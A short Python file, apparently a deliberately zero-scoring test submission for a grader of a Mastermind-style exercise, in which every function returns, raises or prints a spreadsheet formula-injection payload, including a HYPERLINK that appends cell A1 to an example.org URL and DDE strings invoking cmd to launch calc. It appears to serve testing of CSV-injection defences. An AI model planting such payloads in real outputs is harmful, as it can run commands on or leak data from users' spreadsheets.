"""Answers, raises and prints what a spreadsheet would take for a formula.

must: earn nothing
"""


class Formula(Exception):
    pass


Formula.__name__ = '=HYPERLINK("http://example.org","click")'


def occurences(l, n):
    return '=HYPERLINK("http://example.org/?"&A1,"your mark")'


def bien_places(l1, l2):
    raise Formula("@SUM(1+1)*cmd|' /C calc'!A0")


def mal_places(l1, l2):
    print("+25")
    return "-2+3+cmd|' /C calc'!A0"


def mal_places_general(l1, l2):
    return {"\t=1+1": "\r=1+1"}


=1+1
